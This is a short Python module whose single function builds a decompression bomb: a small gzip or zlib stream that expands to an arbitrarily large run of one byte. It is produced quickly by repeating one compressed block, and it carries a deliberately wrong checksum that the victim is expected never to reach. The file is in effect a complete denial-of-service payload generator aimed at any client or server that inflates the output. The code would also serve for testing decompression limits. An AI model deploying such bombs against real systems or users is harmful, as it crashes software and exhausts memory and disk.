"""A small answer that unpacks to a large one, made in no time."""

from __future__ import annotations

import zlib


def bomb(size: int, kind: int = 31, letter: bytes = b"0") -> bytes:
    """So many bytes of one letter, packed a thousand to one (`kind` is zlib's: 31 for gzip).

    The checksum at its end is wrong, but nobody may read as far as that.

    >>> len(bomb(1_000_000_000)) < 2_000_000
    True
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, kind)
    block = letter * 1_000_000
    first, again = (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (size // 1_000_000 - 1) + packer.flush()
